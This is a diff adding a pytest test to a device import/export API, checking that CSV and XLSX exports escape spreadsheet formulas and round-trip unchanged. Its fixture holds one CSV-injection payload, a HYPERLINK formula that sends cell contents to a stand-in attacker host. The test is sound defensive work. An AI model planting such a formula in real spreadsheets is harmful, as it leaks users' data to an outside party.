@@ -1,5 +1,6 @@
 """POST /api/v1/devices/import/ and GET /api/v1/devices/export/: devices as CSV or XLSX, all or nothing."""
 
+import csv
 import io
 from decimal import Decimal
 
@@ -232,3 +233,23 @@ def test_imported_tokens_are_the_devices_mqtt_passwords_and_a_broker_down_import
     down = assert_status(post_csv(client, csv_rows("press-06,Six,machine,Plant A,,,,,"), "?issue_tokens=1"), 503)
     assert "Nothing was changed" in down.json()["detail"]
     assert state() == before
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_export_never_hands_a_spreadsheet_a_formula_and_imports_back_unchanged(admin_api, presses, file_format):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    Device.objects.filter(uid="press-01").update(name=formula, description="-1+2 \x07bell")
+
+    exported = assert_status(admin_api.get(f"{EXPORT}?format={file_format}"), 200).content
+
+    if file_format == "csv":
+        cells = list(csv.reader(io.StringIO(exported.decode())))[1]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula cell
+        cells = [cell.value for cell in sheet[2]]
+    assert cells[1] == "'" + formula
+    body = admin_api.post(IMPORT, {"file": io.BytesIO(exported)}, format="multipart")
+    assert assert_status(body, 201).json()["rows"][0]["action"] == ("unchanged" if file_format == "csv" else "update")
+    device = Device.objects.get(uid="press-01")
+    assert device.name == formula
